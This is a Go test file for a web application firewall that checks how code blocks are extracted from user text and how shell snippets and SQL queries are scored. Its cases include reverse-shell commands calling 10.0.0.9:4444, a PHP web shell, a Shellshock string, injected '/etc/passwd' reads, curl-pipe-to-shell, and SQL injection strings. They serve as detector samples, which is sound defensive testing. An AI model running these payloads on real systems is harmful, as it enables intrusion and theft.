package waf

import (
	"strings"
	"testing"
)

func TestShownCode(t *testing.T) {
	cases := []struct {
		in, text string
		code     []string
	}{
		// Fenced blocks: the lines between the fences are code, the
		// rest is text.
		{"```sh\nset -eu\nmake test\n```\n\nThanks!", "\n\n\n\n\nThanks!", []string{"set -eu\nmake test\n"}},
		{"Try:\n~~~\nls -la\n~~~\nand\n```go\nx := 1\n```", "Try:\n\n\n\nand\n\n\n", []string{"ls -la\n", "x := 1\n"}},
		// A fence around one line and nothing else wraps a payload.
		{"```\n;cat /etc/passwd\n```", "```\n;cat /etc/passwd\n```", nil},
		{"```sh\nid\n```\n\nprints your uid", "\n\n\n\nprints your uid", []string{"id\n"}},
		// A block left open shows nothing: the value is judged whole.
		{"```sh\n; cat /etc/passwd", "```sh\n; cat /etc/passwd", nil},
		// Code spans in a sentence.
		{"also `rm -rf build/` before running the tests", "also  code  before running the tests", []string{"rm -rf build/"}},
		{"Run `go vet ./...` and `make lint`, then push it", "Run  code  and  code , then push it", []string{"go vet ./...", "make lint"}},
		// Spans without a sentence around them, glued to words, left
		// open or across lines are no shown code.
		{"127.0.0.1`id`", "127.0.0.1`id`", nil},
		{"x `id` y", "x `id` y", nil},
		{"1 between 1 AND`id` having 0 union select name from t", "1 between 1 AND`id` having 0 union select name from t", nil},
		{"please run `id now and then", "please run `id now and then", nil},
		{"please run `id\nwhoami` now and then", "please run `id\nwhoami` now and then", nil},
		{"plain text without code", "plain text without code", nil},
	}
	for _, c := range cases {
		text, code := shownCode(c.in)
		if text != c.text || strings.Join(code, "\x00") != strings.Join(c.code, "\x00") || (code == nil) != (c.code == nil) {
			t.Errorf("shownCode(%q) = %q, %q; want %q, %q", c.in, text, code, c.text, c.code)
		}
	}
}

func TestShellShownCode(t *testing.T) {
	cases := []struct {
		in   string
		want int
	}{
		{"#!/bin/sh\nset -eu\nfor f in *.log; do gzip \"$f\"; done\n", scoreWeak},
		{"rm -rf build/", scoreWeak},
		{"curl -fsSL https://get.example.com | sh", scoreWeak},
		{"go vet ./...", scoreWeak},
		{"x := compute(1)", scoreNone},
		{"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", scoreAttack},
		{"ls\n;cat /etc/passwd", scoreAttack},
		{"make\n$(curl x.example.net/a.sh | sh)", scoreAttack},
		{"x=$(date)\necho \"$x\"", scoreWeak},
		{"nc -e /bin/sh 10.0.0.9 4444", scoreAttack},
		{"socat tcp:10.0.0.9:4444 exec:/bin/sh", scoreAttack},
		{"() { :; }; /bin/bash -c id", scoreAttack},
		{"echo '<?php system($_GET[0]); ?>' > /var/www/html/x.php", scoreAttack},
	}
	for _, c := range cases {
		if got := shellShownCode(c.in); got != c.want {
			t.Errorf("shellShownCode(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestIsSQLQuery(t *testing.T) {
	cases := []struct {
		in   string
		want bool
	}{
		{"-- report\nSELECT region, sum(total) FROM sales GROUP BY region", true},
		{"SELECT name, email FROM customers WHERE country = 'CH' AND active = 1", true},
		{"select id from orders where status = 'open' or status = 'held';", true},
		{"# top pages\nselect path, count(*) from hits group by path order by 2 desc limit 10", true},
		// A fragment left for more, or what injections add.
		{"select 1,sin('1'),2 from bar where", false},
		{"select * from users where id = 1 or 1=1", false},
		{"select name from users where name = 'a' or 'a'='a'", false},
		{"select name from users where id = 1 or true", false},
		{"select 1 from dual union select password from users", false},
		{"select name from users; drop table users", false},
		{"select name from users -- ", false},
		{"select name from users where id = 1 /* x */", false},
		{"select @@version from dual", false},
		{"select table_name from information_schema.tables", false},
		{"select sleep(5) from dual", false},
		{"select name from users where name = 'a", false},
		{"1 union select name from users", false},
		{"select the best seat", false},
		{"-- just a comment", false},
	}
	for _, c := range cases {
		if got := isSQLQuery(c.in); got != c.want {
			t.Errorf("isSQLQuery(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

func FuzzShownCode(f *testing.F) {
	for _, s := range []string{"```sh\nid\n```", "a `b` c d e", "~~~\n", "`", "``", "x\n```\n```\n```"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		text, code := shownCode(s)
		if code == nil && text != s {
			t.Fatalf("shownCode(%q) changed the text but showed no code", s)
		}
		if len(code) > 0 {
			n := 0
			for _, c := range code {
				n += len(c)
			}
			if n > len(s) || len(text) > len(s)+len(code)*len(" code ") {
				t.Fatalf("shownCode(%q) = %q, %q: more than the value", s, text, code)
			}
			if t2, c2 := shownCode(text); c2 != nil && strings.Contains(s, "```") == false && strings.Contains(s, "~~~") == false {
				t.Fatalf("shownCode(%q): the text %q shows code again: %q", s, t2, c2)
			}
		}
		if sc := shellScore(s); sc < scoreNone || sc > scoreAttack {
			t.Fatalf("shellScore(%q) = %d", s, sc)
		}
	})
}

func FuzzIsSQLQuery(f *testing.F) {
	for _, s := range []string{"select a from b", "-- x\nselect a from b where c = 1", "select 1 from b where", "#\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if isSQLQuery(s) && sqlScore(s) == scoreAttack {
			t.Fatalf("isSQLQuery(%q), yet it injects", s)
		}
	})
}
